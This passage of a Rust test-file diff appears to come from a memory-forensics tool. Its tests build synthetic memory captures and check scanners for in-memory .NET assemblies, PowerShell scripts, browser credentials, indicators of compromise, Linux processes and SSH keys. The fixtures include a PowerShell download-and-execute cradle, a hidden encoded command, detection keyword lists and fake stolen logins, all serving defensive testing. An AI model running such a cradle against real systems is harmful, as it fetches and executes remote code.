+    put_u32(&mut image, root + 12, 12);
+    image[root + 16..root + 26].copy_from_slice(b"v4.0.30319");
+    put_u16(&mut image, root + 30, 3);
+    let mut at = root + 32;
+    for (offset, size, name) in [(80, 40, &b"#~\0\0"[..]), (120, 16, b"#Strings\0\0\0\0"), (136, 16, b"#GUID\0\0\0")] {
+        put_u32(&mut image, at, offset);
+        put_u32(&mut image, at + 4, size);
+        image[at + 8..at + 8 + name.len()].copy_from_slice(name);
+        at += 8 + name.len();
+    }
+    // One Module row: name at string 1, MVID the first GUID
+    let tables = root + 80;
+    image[tables + 4] = 2;
+    image[tables + 8] = 1;
+    put_u32(&mut image, tables + 24, 1);
+    put_u16(&mut image, tables + 30, 1);
+    put_u16(&mut image, tables + 32, 1);
+    image[root + 121..root + 132].copy_from_slice(b"payload.dll");
+    for (index, byte) in image[root + 136..root + 152].iter_mut().enumerate() {
+        *byte = index as u8;
+    }
+    image
+}
+
+#[test]
+fn test_dotnet_finds_clr_and_assemblies_loaded_from_memory() -> Result<(), Box<dyn std::error::Error>> {
+    let assembly = clr_assembly();
+    let clr = ClrHeader::parse(&assembly, false).ok_or("no CLI header")?;
+    assert_eq!((clr.runtime_version, clr.metadata_version.as_str()), ((2, 5), "v4.0.30319"));
+    assert_eq!((clr.module_name.as_deref(), clr.flag_names()), (Some("payload.dll"), vec!["il_only"]));
+    assert_eq!(clr.mvid.as_ref().map(format_guid).as_deref(), Some("{03020100-0504-0706-0809-0A0B0C0D0E0F}"));
+    // Read as mapped, the CLI header is not where the section table says
+    assert_eq!(ClrHeader::parse(&assembly, true), None);
+    assert_eq!(clr_runtime(["ntdll.dll", "MSCOREE.DLL", "clr.dll"]), Some(".NET Framework 4"));
+    assert_eq!(clr_runtime(["ntdll.dll", "kernel32.dll"]), None);
+
+    // The assembly sits in a byte array in the private page at 0x410000, and the
+    // second loader entry is clr.dll
+    let mut data = put_process_capture(true);
+    data[0x1C040..0x1C440].copy_from_slice(&assembly);
+    let name: Vec<u8> = "clr.dll".encode_utf16().flat_map(|c| c.to_le_bytes()).collect();
+    data[0x1B400 + 0x100..0x1B400 + 0x110].fill(0);
+    data[0x1B400 + 0x100..0x1B400 + 0x100 + name.len()].copy_from_slice(&name);
+    data[0x1B400 + 0x48..0x1B400 + 0x4A].copy_from_slice(&(name.len() as u16).to_le_bytes());
+
+    let mut img = crate::MemoryImage::new(data.clone());
+    img.set_cr3(0x1000);
+    let os = OsContext::find(&img, &ProgressBar::hidden()).ok_or("no KDBG")?;
+    let finder = WindowsProcessFinder::new().with_os_context(os);
+    let process = finder.find_processes(&img, &ProgressBar::hidden())?.into_iter().find(|p| p.pid == 0x1F0).ok_or("no process")?;
+    let found = process_assemblies(&img, &finder, &process);
+    assert_eq!(found.iter().map(|a| (a.base, a.size, a.mapped, a.source)).collect::<Vec<_>>(), vec![(0x41_0040, 0x400, false, AssemblySource::Memory)]);
+    assert_eq!(found[0].name(), "payload.dll");
+
+    let findings = DotnetScanner.scan(&img, &ProgressBar::hidden());
+    let summary: Vec<_> = findings.iter().map(|f| (f.details["rule"].as_str(), f.details.get("runtime").or(f.details.get("module")).unwrap().as_str())).collect();
+    assert_eq!(summary, vec![("clr_loaded", ".NET Framework 4"), ("in_memory_assembly", "payload.dll")]);
+    assert_eq!(findings[1].addr, 0x1C040);
+    assert_eq!(findings[1].details["mvid"], "{03020100-0504-0706-0809-0A0B0C0D0E0F}");
+
+    // Assemblies are written as found, ready for a decompiler
+    let test_dir = tempdir()?;
+    let path = test_dir.path().join("dotnet.bin");
+    std::fs::write(&path, &data)?;
+    let output = test_dir.path().join("assemblies");
+    list_assemblies(path, 0x1000, Some(0x1F0), Some(output.clone()), None)?;
+    assert_eq!(std::fs::read(output.join("pid.496.payload.dll.0x410040"))?, assembly);
+    Ok(())
+}
+
+#[test]
+fn test_powershell_carves_scripts_and_encoded_commands() -> Result<(), Box<dyn std::error::Error>> {
+    use base64::{engine::general_purpose::STANDARD, Engine};
+    let wide = |text: &str| -> Vec<u8> { text.encode_utf16().flat_map(|c| c.to_le_bytes()).collect() };
+    let mut run = vec![0u8; 4];
+    run.extend(wide("Write-Output hello world from the test"));
+    run.extend([0, 0, 0x41]);
+    assert_eq!(utf16_runs(&run, 32), vec![(4, "Write-Output hello world from the test".to_string())]);
+    assert_eq!(utf16_runs(&run, 64), vec![]);
+
+    let scanner = PowerShellScanner::default();
+    let script = "$wc = New-Object Net.WebClient; IEX $wc.DownloadString('http://10.0.0.5/a.ps1')";
+    assert!(scanner.is_script(script));
+    assert!(!scanner.is_script("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"));
+    assert_eq!(script_indicators(script), vec!["downloadstring", "iex ", "net.webclient"]);
+    let encoded = STANDARD.encode(wide("Start-Process calc.exe"));
+    let command = format!("powershell.exe -NoP -W Hidden -enc {}", encoded);
+    assert_eq!(scanner.encoded_commands(&command), vec!["Start-Process calc.exe"]);
+    assert_eq!(scanner.encoded_commands(&format!("-EncodedCommand {}", encoded)), vec!["Start-Process calc.exe"]);
+    // -ExecutionPolicy takes a word, not base64
+    assert_eq!(scanner.encoded_commands("-ExecutionPolicy Bypass"), Vec::<String>::new());
+
+    // The script twice and the command line once in the private page at 0x410000,
+    // and the second loader entry is System.Management.Automation.dll
+    let mut data = put_process_capture(true);
+    for (at, text) in [(0x1C100, script), (0x1C400, script), (0x1C800, command.as_str())] {
+        let text = wide(text);
+        data[at..at + text.len()].copy_from_slice(&text);
+    }
+    let name = wide("System.Management.Automation.dll");
+    data[0x1B400 + 0x100..0x1B400 + 0x100 + name.len()].copy_from_slice(&name);
+    data[0x1B400 + 0x48..0x1B400 + 0x4A].copy_from_slice(&(name.len() as u16).to_le_bytes());
+
+    let mut img = crate::MemoryImage::new(data);
+    img.set_cr3(0x1000);
+    let findings = scanner.scan(&img, &ProgressBar::hidden());
+    let summary: Vec<_> = findings.iter().map(|f| (f.details["rule"].as_str(), f.details["text"].as_str(), f.details["copies"].as_str(), f.confidence)).collect();
+    assert_eq!(summary, vec![
+        ("script_block", script, "2", 75),
+        ("encoded_command", "Start-Process calc.exe", "1", 70),
+    ]);
+    assert_eq!((findings[0].addr, findings[0].details["address"].as_str()), (0x1C100, "0x410100"));
+    assert_eq!((findings[0].details["pid"].as_str(), findings[0].details["host"].as_str()), ("496", "unmanaged powershell"));
+    Ok(())
+}
+
+#[test]
+fn test_browser_carves_urls_cookies_and_form_data() -> Result<(), Box<dyn std::error::Error>> {
+    assert_eq!((browser_name("chrome.exe"), browser_name("MSEDGE.EXE"), browser_name("victim.exe")), (Some("Chrome"), Some("Edge"), None));
+    let scanner = BrowserScanner::default();
+    let found = scanner.find(b"GET https://mail.example.com/login?next=%2F&user=x. \0Cookie: SID=31d4d96e; lang=en\r\n\0username=alice&password=hunter2\0q=cats&page=2\0");
+    assert_eq!(found, vec![
+        (4, ArtifactKind::Url, "https://mail.example.com/login?next=%2F&user=x".to_string()),
+        (53, ArtifactKind::Cookie, "SID=31d4d96e; lang=en".to_string()),
+        (85, ArtifactKind::FormData, "username=alice&password=hunter2".to_string()),
+    ]);
+
+    // A page's URL in UTF-16 twice, and the login it posted, in the private page at
+    // 0x410000 of a process renamed chrome.exe
+    let mut data = put_process_capture(true);
+    data[0x8000 + 0x2E0..0x8000 + 0x2EF].fill(0);
+    data[0x8000 + 0x2E0..0x8000 + 0x2EA].copy_from_slice(b"chrome.exe");
+    let url: Vec<u8> = "https://bank.example.com/signin".encode_utf16().flat_map(|c| c.to_le_bytes()).collect();
+    data[0x1C100..0x1C100 + url.len()].copy_from_slice(&url);
+    data[0x1C300..0x1C300 + url.len()].copy_from_slice(&url);
+    let post = b"Set-Cookie: session=9f8e7d; Domain=.bank.example.com; Secure\r\n\r\nlogin=alice&pwd=s3cret&remember=1";
+    data[0x1C500..0x1C500 + post.len()].copy_from_slice(post);
+
+    let mut img = crate::MemoryImage::new(data);
+    img.set_cr3(0x1000);
+    let findings = scanner.scan(&img, &ProgressBar::hidden());
+    let summary: Vec<_> = findings.iter().map(|f| (f.details["rule"].as_str(), f.details.get("host").map(String::as_str), f.details["copies"].as_str(), f.confidence)).collect();
+    assert_eq!(summary, vec![
+        ("url", Some("bank.example.com"), "2", 20),
+        ("set_cookie", Some("bank.example.com"), "1", 50),
+        ("form_data", None, "1", 70),
+    ]);
+    assert_eq!((findings[0].addr, findings[0].details["encoding"].as_str(), findings[0].details["browser"].as_str()), (0x1C100, "utf-16le", "Chrome"));
+    assert_eq!((findings[2].details["fields"].as_str(), findings[2].details["process"].as_str()), ("login,pwd,remember", "chrome.exe"));
+    Ok(())
+}
+
+#[test]
+fn test_ioc_hits_match_whole_tokens_and_name_their_processes() -> Result<(), Box<dyn std::error::Error>> {
+    let iocs = IocSet {
+        ips: vec!["10.1.2.3".to_string()],
+        domains: vec!["evil.example".to_string()],
+        filenames: vec!["dropper.exe".to_string()],
+        mutexes: vec!["Global\\XmrLock".to_string()],
+        hashes: vec!["d41d8cd98f00b204e9800998ecf8427e".to_string()],
+    };
+    let matcher = IocMatcher::new(&iocs)?;
+    let text = b"GET http://cdn.EVIL.example/x from 10.1.2.3. not 10.1.2.33 or notevil.example or evil.example.org; \
+        C:\\Temp\\Dropper.exe mydropper.exe Global\\XmrLock md5 d41d8cd98f00b204e9800998ecf8427e0";
+    let found: Vec<_> = matcher.find(text).into_iter().map(|m| (m.kind, m.indicator, String::from_utf8_lossy(&text[m.offset..m.offset + m.len]).to_string())).collect();
+    assert_eq!(found, vec![
+        (IocKind::Domain, "evil.example".to_string(), "EVIL.example".to_string()),
+        (IocKind::Ip, "10.1.2.3".to_string(), "10.1.2.3".to_string()),
+        (IocKind::Filename, "dropper.exe".to_string(), "Dropper.exe".to_string()),
+        (IocKind::Mutex, "Global\\XmrLock".to_string(), "Global\\XmrLock".to_string()),
+    ]);
+
+    let test_dir = tempdir()?;
+    for (list, error) in [(r#"{"ips": ["10.1.2"]}"#, "not an IP address"), (r#"{"hashes": ["abc"]}"#, "not an MD5"), ("{}", "no indicators"), (r#""10.1.2.3""#, "not an IOC list")] {
+        let path = test_dir.path().join("bad.json");
+        std::fs::write(&path, list)?;
+        let message = format!("{:#}", IocSet::load(&path).err().ok_or(list)?);
+        assert!(message.contains(error), "{}", message);
+    }
+
+    // The domain in UTF-16 in the private page at 0x410000, and the IP in a page no process maps
+    let mut data = put_process_capture(true);
+    let wide: Vec<u8> = "https://evil.example/".encode_utf16().flat_map(|c| c.to_le_bytes()).collect();
+    data[0x1C100..0x1C100 + wide.len()].copy_from_slice(&wide);
+    data[0x1F800..0x1F808].copy_from_slice(b"10.1.2.3");
+    let mut img = crate::MemoryImage::new(data.clone());
+    img.set_cr3(0x1000);
+    let owners = PageOwners::windows(&img, None, &ProgressBar::hidden())?;
+    let hits = scan_iocs(&img, &matcher, &owners, &ProgressBar::hidden());
+    let summary: Vec<_> = hits.iter().map(|h| (h.kind, h.physical, h.encoding.as_str(), h.processes.clone())).collect();
+    assert_eq!(summary, vec![
+        (IocKind::Domain, 0x1C110, "utf-16le", vec![PageOwner { pid: 0x1F0, process: "victim.exe".to_string(), va: 0x41_0110 }]),
+        (IocKind::Ip, 0x1F800, "ascii", vec![]),
+    ]);
+
+    let path = test_dir.path().join("ioc.bin");
+    std::fs::write(&path, &data)?;
+    let list = test_dir.path().join("iocs.json");
+    std::fs::write(&list, r#"{"domains": ["evil.example"], "files": ["dropper.exe"]}"#)?;
+    let output = test_dir.path().join("hits.json");
+    report_iocs(path, &list, Some(0x1000), Some(output.clone()), None)?;
+    let written: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(output)?)?;
+    assert_eq!((written[0]["kind"].as_str(), written[0]["processes"][0]["pid"].as_u64()), (Some("domain"), Some(0x1F0)));
+    Ok(())
+}
+
+#[test]
+fn test_process_parameters_read_from_peb() -> Result<(), Box<dyn std::error::Error>> {
+    let mut img = crate::MemoryImage::new(put_process_capture(false));
+    img.set_cr3(0x1000);
+    let os = OsContext::find(&img, &ProgressBar::hidden()).ok_or("no KDBG")?;
+    let finder = WindowsProcessFinder::new().with_os_context(os);
+    let process = finder.find_processes(&img, &ProgressBar::hidden())?.into_iter().find(|p| p.pid == 0x1F0).ok_or("no process")?;
+
+    let params = process.parameters.ok_or("no process parameters")?;
+    assert_eq!(params.command_line.as_deref(), Some("victim.exe --serve"));
+    assert_eq!(params.image_path.as_deref(), Some("C:\\victim.exe"));
+    assert_eq!(params.current_directory.as_deref(), Some("C:\\work\\"));
+    assert_eq!(params.environment, vec![
+        ("=C:".to_string(), "C:\\work".to_string()),
+        ("PATH".to_string(), "C:\\Windows".to_string()),
+        ("TOKEN".to_string(), "a=b".to_string()),
+    ]);
+    Ok(())
+}
+
+// Relocatable x86_64 ELF with DWARF for list_head, task_struct (with an anonymous
+// union and a bitfield) and mm_struct (declared, then defined), an `init_task`
+// symbol and `extra` as the contents of .rodata
+#[cfg(feature = "symbols")]
+fn linux_debug_elf(extra: &[u8]) -> Vec<u8> {
+    use gimli::write::{AttributeValue, DwarfUnit, EndianVec, Sections, UnitEntryId};
+    use object::write::{Object, Symbol, SymbolSection};
+
+    let encoding = gimli::Encoding { format: gimli::Format::Dwarf32, version: 4, address_size: 8 };
+    let mut dwarf = DwarfUnit::new(encoding);
+    let root = dwarf.unit.root();
+    let add = |dwarf: &mut DwarfUnit, parent: UnitEntryId, tag, name: Option<&str>, attrs: &[(gimli::DwAt, AttributeValue)]| {
+        let id = dwarf.unit.add(parent, tag);
+        let entry = dwarf.unit.get_mut(id);
+        if let Some(name) = name {
+            entry.set(gimli::DW_AT_name, AttributeValue::String(name.as_bytes().to_vec()));
+        }
+        for (attr, value) in attrs {
+            entry.set(*attr, value.clone());
+        }
+        id
+    };
+    let at = |offset: u64| (gimli::DW_AT_data_member_location, AttributeValue::Udata(offset));
+    let size = |size: u64| (gimli::DW_AT_byte_size, AttributeValue::Udata(size));
+
+    let list_head = add(&mut dwarf, root, gimli::DW_TAG_structure_type, Some("list_head"), &[size(16)]);
+    add(&mut dwarf, list_head, gimli::DW_TAG_member, Some("next"), &[at(0)]);
+    add(&mut dwarf, list_head, gimli::DW_TAG_member, Some("prev"), &[at(8)]);
+
+    let state = add(&mut dwarf, root, gimli::DW_TAG_union_type, None, &[size(8)]);
+    add(&mut dwarf, state, gimli::DW_TAG_member, Some("__state"), &[]);
+    add(&mut dwarf, state, gimli::DW_TAG_member, Some("state"), &[]);
+
+    let task = add(&mut dwarf, root, gimli::DW_TAG_structure_type, Some("task_struct"), &[size(0x2600)]);
+    add(&mut dwarf, task, gimli::DW_TAG_member, None, &[at(0x18), (gimli::DW_AT_type, AttributeValue::UnitRef(state))]);
+    add(&mut dwarf, task, gimli::DW_TAG_member, Some("tasks"), &[at(0x480), (gimli::DW_AT_type, AttributeValue::UnitRef(list_head))]);
+    add(&mut dwarf, task, gimli::DW_TAG_member, Some("pid"), &[at(0x560)]);
+    add(&mut dwarf, task, gimli::DW_TAG_member, Some("in_execve"), &[(gimli::DW_AT_data_bit_offset, AttributeValue::Udata(0x5A0 * 8 + 3))]);
+    add(&mut dwarf, task, gimli::DW_TAG_member, Some("comm"), &[at(0x738)]);
+
+    add(&mut dwarf, root, gimli::DW_TAG_structure_type, Some("mm_struct"), &[(gimli::DW_AT_declaration, AttributeValue::Flag(true))]);
+    let mm = add(&mut dwarf, root, gimli::DW_TAG_structure_type, Some("mm_struct"), &[size(0x400)]);
+    add(&mut dwarf, mm, gimli::DW_TAG_member, Some("pgd"), &[at(0x50)]);
+
+    let mut sections = Sections::new(EndianVec::new(gimli::LittleEndian));
+    dwarf.write(&mut sections).unwrap();
+
+    let mut obj = Object::new(object::BinaryFormat::Elf, object::Architecture::X86_64, object::Endianness::Little);
+    sections.for_each(|id, data| -> Result<(), ()> {
+        let section = obj.add_section(Vec::new(), id.name().as_bytes().to_vec(), object::SectionKind::Debug);
+        obj.append_section_data(section, data.slice(), 1);
+        Ok(())
+    }).unwrap();
+    let data = obj.add_section(Vec::new(), b".data".to_vec(), object::SectionKind::Data);
+    obj.append_section_data(data, &[0u8; 0x2700], 64);
+    obj.add_symbol(Symbol {
+        name: b"init_task".to_vec(),
+        value: 0x40,
+        size: 0x2600,
+        kind: object::SymbolKind::Data,
+        scope: object::SymbolScope::Linkage,
+        weak: false,
+        section: SymbolSection::Section(data),
+        flags: object::SymbolFlags::None,
+    });
+    let rodata = obj.add_section(Vec::new(), b".rodata".to_vec(), object::SectionKind::ReadOnlyData);
+    obj.append_section_data(rodata, extra, 1);
+    obj.write().unwrap()
+}
+
+const LINUX_BANNER: &str = "Linux version 6.1.0-18-amd64 (debian-kernel@lists.debian.org) (gcc-12 (Debian 12.2.0-14) 12.2.0) #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 (2024-02-01)";
+
+/// ID of the Docker container `linux_task_capture` puts sshd in
+const CONTAINER_ID: &str = "4f3c2b1a0e9d8c7b6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b";
+
+/// Tasks of a Linux capture and the profile to walk them with, whose
+/// addresses are from before a 2MB KASLR slide: init_task, then systemd,
+/// sshd (with credentials, an mm, two more threads and a container), a
+/// kernel thread and a zombie, linked through tasks
+fn linux_task_capture() -> (Vec<u8>, crate::linux_profile::LinuxProfile) {
+    use crate::linux_profile::LinuxProfile;
+
+    let layout = |size: u64, fields: &[(&str, u64)]| StructLayout {
+        size,
+        fields: fields.iter().map(|&(name, off)| (name.to_string(), off)).collect(),
+    };
+    let mut types = KernelTypes::default();
+    types.structs.insert("task_struct".to_string(), layout(0x100, &[
+        ("__state", 0x0), ("exit_state", 0x8), ("tasks", 0x10), ("pid", 0x20), ("tgid", 0x24), ("real_parent", 0x28),
+        ("mm", 0x30), ("start_time", 0x38), ("comm", 0x40), ("thread_group", 0x50), ("cred", 0x60), ("cgroups", 0x70),
+    ]));
+    types.structs.insert("css_set".to_string(), layout(0x20, &[("dfl_cgrp", 0x8)]));
+    types.structs.insert("cgroup".to_string(), layout(0x20, &[("kn", 0x10)]));
+    types.structs.insert("kernfs_node".to_string(), layout(0x20, &[("parent", 0x0), ("name", 0x8)]));
+    types.structs.insert("mm_struct".to_string(), layout(0x80, &[("pgd", 0x50)]));
+    types.structs.insert("cred".to_string(), layout(0x20, &[("uid", 0x4), ("euid", 0x14)]));
+
+    let mut data = vec![0u8; 256 * 1024];
+    let kva = |pa: usize| KERNEL_VA + (pa - 0x5000) as u64;
+    put_kernel_tables(&mut data);
+    let put_task = |data: &mut [u8], pa: usize, pid: u32, parent: usize, name: &str, state: u64, started: u64| {
+        data[pa + 0x20..pa + 0x24].copy_from_slice(&pid.to_le_bytes());
+        data[pa + 0x24..pa + 0x28].copy_from_slice(&pid.to_le_bytes());
+        put(data, pa + 0x28, kva(parent));
+        put(data, pa, state & 0xFFFF);
+        put(data, pa + 0x8, state >> 16);
+        put(data, pa + 0x38, started * 1_000_000_000);
+        data[pa + 0x40..pa + 0x40 + name.len()].copy_from_slice(name.as_bytes());
+        put(data, pa + 0x50, kva(pa + 0x50));
+        put(data, pa + 0x58, kva(pa + 0x50));
+    };
+    let tasks = [0x6000, 0x6200, 0x6400, 0x6800, 0x6900];
+    put_task(&mut data, 0x6000, 0, 0x6000, "swapper/0", 0, 0);
+    put_task(&mut data, 0x6200, 1, 0x6000, "systemd", 1, 2);
+    put_task(&mut data, 0x6400, 0x321, 0x6200, "sshd", 0, 40);
+    put_task(&mut data, 0x6800, 2, 0x6000, "kthreadd", 2, 0);
+    put_task(&mut data, 0x6900, 0x400, 0x6400, "sshd", 0x10 << 16, 41);
+    for (i, &task) in tasks.iter().enumerate() {
+        let (next, prev) = (tasks[(i + 1) % tasks.len()], tasks[(i + tasks.len() - 1) % tasks.len()]);
+        put(&mut data, task + 0x10, kva(next + 0x10));
+        put(&mut data, task + 0x18, kva(prev + 0x10));
+    }
+    // nc exited and was reaped: its task is off the list, links poisoned
+    put_task(&mut data, 0x6A00, 0x555, 0x6400, "nc", 0x20 << 16, 45);
+    put(&mut data, 0x6A00 + 0x10, 0xdead_0000_0000_0100);
+    put(&mut data, 0x6A00 + 0x18, 0xdead_0000_0000_0122);
+    put(&mut data, 0x6400 + 0x30, kva(0x7000));
+    put(&mut data, 0x7000 + 0x50, kva(0x8000));
+    put(&mut data, 0x6400 + 0x60, kva(0x7100));
+    data[0x7104..0x7108].copy_from_slice(&1000u32.to_le_bytes());
+    put(&mut data, 0x6400 + 0x50, kva(0x6600 + 0x50));
+    put(&mut data, 0x6600 + 0x50, kva(0x6700 + 0x50));
+    put(&mut data, 0x6700 + 0x50, kva(0x6400 + 0x50));
+
+    // sshd runs in a Docker container: css_set -> cgroup -> kernfs nodes of
+    // /system.slice/docker-<id>.scope; systemd is in /init.scope
+    let put_cgroup = |data: &mut [u8], css_set: usize, path: &[(usize, &str)]| {
+        put(data, css_set + 0x8, kva(css_set + 0x40));
+        let mut parent = 0;
+        for &(node, name) in path {
+            put(data, node, parent);
+            put(data, node + 0x8, kva(node + 0x20));
+            data[node + 0x20..node + 0x20 + name.len()].copy_from_slice(name.as_bytes());
+            parent = kva(node);
+        }
+        put(data, css_set + 0x40 + 0x10, parent);
+    };
+    put_cgroup(&mut data, 0xA000, &[(0xA100, ""), (0xA200, "system.slice"), (0xA300, &format!("docker-{}.scope", CONTAINER_ID))]);
+    put_cgroup(&mut data, 0xA800, &[(0xA900, ""), (0xAA00, "init.scope")]);
+    put(&mut data, 0x6400 + 0x70, kva(0xA000));
+    put(&mut data, 0x6200 + 0x70, kva(0xA800));
+    data[0x9000..0x9000 + LINUX_BANNER.len()].copy_from_slice(LINUX_BANNER.as_bytes());
+    put(&mut data, 0x9800, KERNEL_VA - 0x5000);
+
+    let slide = 0x20_0000;
+    let profile = LinuxProfile {
+        release: "6.1.0-18-amd64".to_string(),
+        symbols: [("init_task", kva(0x6000) - slide), ("linux_banner", kva(0x9000) - slide), ("page_offset_base", kva(0x9800) - slide)]
+            .into_iter().map(|(name, addr)| (name.to_string(), addr)).collect(),
+        types,
+    };
+    (data, profile)
+}
+
+#[test]
+fn test_linux_task_list_walk_from_profile() -> Result<(), Box<dyn std::error::Error>> {
+    let (data, profile) = linux_task_capture();
+    let test_dir = tempdir()?;
+    let path = test_dir.path().join("linux_tasks.bin");
+    std::fs::write(&path, &data)?;
+    let mut img = load_memory_image(&path)?;
+
+    let kva = |pa: usize| KERNEL_VA + (pa - 0x5000) as u64;
+    let mut banner = LinuxBanner::parse(LINUX_BANNER).unwrap();
+    banner.offset = 0x9000;
+    let finder = LinuxProcessFinder::default().with_profile(profile.clone());
+    assert!(finder.find_processes(&img, &ProgressBar::hidden()).is_err(), "No DTB");
+    img.set_cr3(0x1000);
+    assert!(finder.find_processes(&img, &ProgressBar::hidden()).is_err(), "Slide unknown without the banner");
+
+    let finder = finder.with_banner(banner);
+    let processes = finder.find_processes(&img, &ProgressBar::hidden())?;
+    let summary: Vec<_> = processes.iter().map(|p| (p.pid, p.ppid, p.name.as_str(), p.state)).collect();
+    assert_eq!(summary, vec![
+        (1, 0, "systemd", ProcessState::Waiting),
+        (0x321, 1, "sshd", ProcessState::Running),
+        (2, 0, "kthreadd", ProcessState::Waiting),
+        (0x400, 0x321, "sshd", ProcessState::Zombie),
+    ]);
+    let sshd = &processes[1];
+    assert_eq!(sshd.virtual_address, kva(0x6400));
+    assert_eq!(sshd.dtb, Some(0x8000));
+    assert_eq!(sshd.user.as_deref(), Some("1000 (euid 0)"));
+    assert_eq!(sshd.thread_count, 3);
+    assert_eq!(sshd.start_time.duration_since(std::time::SystemTime::UNIX_EPOCH)?.as_secs(), 40);
+    assert_eq!(processes[2].dtb, None, "Kernel threads have no mm");
+    assert_eq!(processes[2].thread_count, 1);
+    // Container from the cgroup path; systemd's /init.scope is none
+    assert_eq!(sshd.container_id.as_deref(), Some(CONTAINER_ID));
+    assert_eq!(processes[0].container_id, None);
+
+    // Carving the task_struct slab adds the reaped task nothing links to
+    let mut processes = processes;
+    let remnants = finder.scan_remnants(&img, &ProgressBar::hidden())?;
+    assert_eq!(merge_remnants(&mut processes, remnants), 1);
+    let nc = processes.last().unwrap();
+    assert_eq!((nc.pid, nc.ppid, nc.name.as_str(), nc.state), (0x555, 0x321, "nc", ProcessState::Exited));
+    assert_eq!(nc.virtual_address, kva(0x6A00));
+
+    // Profiles missing required fields are rejected
+    let mut incomplete = profile;
+    incomplete.types.structs.remove("mm_struct");
+    let error = LinuxProcessFinder::default().with_profile(incomplete).find_processes(&img, &ProgressBar::hidden()).unwrap_err();
+    assert!(error.to_string().contains("mm_struct.pgd"));
+
+    Ok(())
+}
+
+/// A finding for each PID of `linux_task_capture`, and one naming its container
+struct PidFindings;
+
+impl MemoryPlugin for PidFindings {
+    fn name(&self) -> &'static str {
+        "pid_findings"
+    }
+
+    fn description(&self) -> &'static str {
+        "Findings attributed to processes"
+    }
+
+    fn scan(&self, _img: &crate::MemoryImage, _progress: &ProgressBar) -> Vec<crate::plugin::Finding> {
+        let finding = |addr: u64, key: &str, value: String| crate::plugin::Finding {
+            plugin: self.name().to_string(),
+            addr,
+            desc: format!("{} {}", key, value),
+            confidence: 50,
+            details: [(key.to_string(), value)].into_iter().collect(),
+        };
+        let mut findings: Vec<_> = [1u32, 0x321, 0x400].iter().map(|pid| finding(*pid as u64 * 0x10, "pid", pid.to_string())).collect();
+        findings.push(finding(0x9000, "container_id", CONTAINER_ID[..12].to_string()));
+        findings
+    }
+}
+
+#[test]
+fn test_run_plugin_container_scope_keeps_findings_by_pid() -> Result<(), Box<dyn std::error::Error>> {
+    let (data, profile) = linux_task_capture();
+    let test_dir = tempdir()?;
+    let (dump, profile_path, export) = (test_dir.path().join("linux.bin"), test_dir.path().join("profile.json"), test_dir.path().join("findings.json"));
+    std::fs::write(&dump, &data)?;
+    profile.save(&profile_path)?;
+
+    let options = crate::plugin::RunOptions {
+        export: Some(export.clone()),
+        container: Some(CONTAINER_ID[..12].to_string()),
+        profile: Some(profile_path),
+        ..Default::default()
+    };
+    crate::plugin::run_scanner(dump.clone(), &PidFindings, options)?;
+    let exported: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&export)?)?;
+    let kept: Vec<&str> = exported["records"].as_array().ok_or("no records")?.iter()
+        .filter_map(|record| record["description"].as_str())
+        .collect();
+    // sshd (0x321) is in the container; systemd and the zombie sshd are not
+    assert_eq!(kept, vec!["pid 801", &format!("container_id {}", &CONTAINER_ID[..12])]);
+
+    // Without a profile only the finding naming the container is in scope
+    let options = crate::plugin::RunOptions { export: Some(export.clone()), container: Some(CONTAINER_ID[..12].to_string()), ..Default::default() };
+    crate::plugin::run_scanner(dump, &PidFindings, options)?;
+    let exported: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&export)?)?;
+    assert_eq!(exported["records"].as_array().ok_or("no records")?.len(), 1);
+    Ok(())
+}
+
+#[test]
+fn test_run_plugin_applies_reveal_and_settings_to_the_profile_scanner() {
+    // ssh_keys with --profile runs a scanner built from the profile, which
+    // redacts nothing and takes no settings; neither flag may be dropped
+    crate::plugin::init_plugins();
+    let test_dir = tempdir().unwrap();
+    let run = |reveal: bool, settings: &[(&str, &str)]| {
+        let options = crate::plugin::RunOptions {
+            profile: Some(test_dir.path().join("profile.json")),
+            reveal,
+            settings: settings.iter().map(|&(k, v)| (k.to_string(), v.to_string())).collect(),
+            ..Default::default()
+        };
+        crate::plugin::run_plugin(test_dir.path().join("dump.bin"), "ssh_keys".to_string(), options).unwrap_err().to_string()
+    };
+    assert_eq!(run(true, &[]), "Plugin 'ssh_keys' redacts nothing; --reveal does not apply");
+    assert_eq!(run(false, &[("min_len", "4")]), "Plugin 'ssh_keys' takes no setting 'min_len'");
+}
+
+#[test]
+fn test_ssh_keys_attributes_keys_to_sshd() -> Result<(), Box<dyn std::error::Error>> {
+    use crate::plugin::SshKeyScanner;
+
+    let (mut data, profile) = linux_task_capture();
+    // sshd (mm->pgd 0x8000) maps user page 0x1000 to physical 0x13000,
+    // which holds an unshielded ed25519 identity
+    put(&mut data, 0x8000, 0x10000 | 7);
+    put(&mut data, 0x10000, 0x11000 | 7);
+    put(&mut data, 0x11000, 0x12000 | 7);
+    put(&mut data, 0x12000 + 8, 0x13000 | 7);
+    let mut key = b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00\x20".to_vec();
+    key.extend_from_slice(&[0x42; 32]);
+    key.extend_from_slice(&[0, 0, 0, 64]);
+    key.extend_from_slice(&[0x17; 32]);
+    key.extend_from_slice(&[0x42; 32]);
+    data[0x13040..0x13040 + key.len()].copy_from_slice(&key);
+
+    let test_dir = tempdir()?;
+    let (dump, profile_path) = (test_dir.path().join("linux.bin"), test_dir.path().join("profile.json"));
+    std::fs::write(&dump, &data)?;
+    profile.save(&profile_path)?;
+    let img = load_memory_image(&dump)?;
+
+    // Without a profile the key is carved but not attributed
+    let findings = SshKeyScanner::default().scan(&img, &ProgressBar::hidden());
+    assert_eq!(findings.len(), 1);
+    assert!(!findings[0].details.contains_key("pid"));
+
+    // The copy sshd holds replaces the physical one
+    let findings = SshKeyScanner::with_profile(profile_path).scan(&img, &ProgressBar::hidden());
+    assert_eq!(findings.len(), 1, "{:?}", findings);
+    let key = &findings[0];
+    assert_eq!(key.addr, 0x13040);
+    assert_eq!(key.details["rule"], "ed25519_wire_private");
+    assert_eq!(key.details["pid"], "801");
+    assert_eq!(key.details["process"], "sshd");
+    assert_eq!(key.details["va"], "0x1040");
+    assert!(key.desc.ends_with(" in sshd (PID 801)"), "{}", key.desc);
+    Ok(())
+}
+
+#[test]
